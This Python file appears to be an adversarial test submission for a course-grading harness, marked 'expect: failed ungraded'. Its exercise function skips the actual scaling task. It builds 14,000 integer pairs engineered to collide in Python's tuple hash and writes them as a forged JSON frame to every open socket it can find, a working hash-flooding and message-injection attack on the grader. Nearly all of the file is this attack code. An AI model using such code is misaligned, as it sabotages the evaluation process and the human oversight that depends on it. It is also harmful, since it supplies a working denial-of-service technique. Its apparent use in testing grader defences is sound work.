"""Keys that collide are pairs of numbers here."""

# expect: failed ungraded
# reason: .

# %%
import os
import stat
import struct

import coursekit as ck


def send(*frames):
    """Write frames, each a header and the bytes of its arrays, to every socket that is open."""
    data = b"".join(struct.pack("<II", len(head), len(body)) + head + body for head, body in frames)
    raw(data)


def raw(data):
    for number in range(3, 64):
        try:
            channel = stat.S_ISSOCK(os.fstat(number).st_mode)
        except OSError:
            continue
        while channel and data:
            try:
                data = data[os.write(number, data) :]
            except BlockingIOError:
                pass


MASK = (1 << 64) - 1
FIRST, SECOND, FIFTH = 11400714785074694791, 14029467366897019727, 2870177450012600261
WANTED = 12345 * pow(FIRST, -1, 1 << 64) & MASK
WANTED = (WANTED << 33 | WANTED >> 31) & MASK
INVERSE = pow(SECOND, -1, 1 << 64)


def same_hash(first):
    """Return a second number with which the pair has the hash that all others have."""
    lane = FIFTH + first * SECOND & MASK
    lane = (lane << 31 | lane >> 33) & MASK
    return (WANTED - lane * FIRST) * INVERSE & MASK


@ck.exercise("vault.scale")
def scale(x, factor=2.0):
    assert len({hash((n, same_hash(n))) for n in range(50) if same_hash(n) < MASK >> 3}) == 1
    pairs = []
    first = 1
    while len(pairs) < 14_000:
        second = same_hash(first)
        if second < (1 << 61) - 1:
            pairs.append('[{"tuple":[%d,%d]},0]' % (first, second))
        first += 1
    send((('{"dict":[["value",{"dict":[' + ",".join(pairs) + "]}]]}").encode(), b""))
    return x
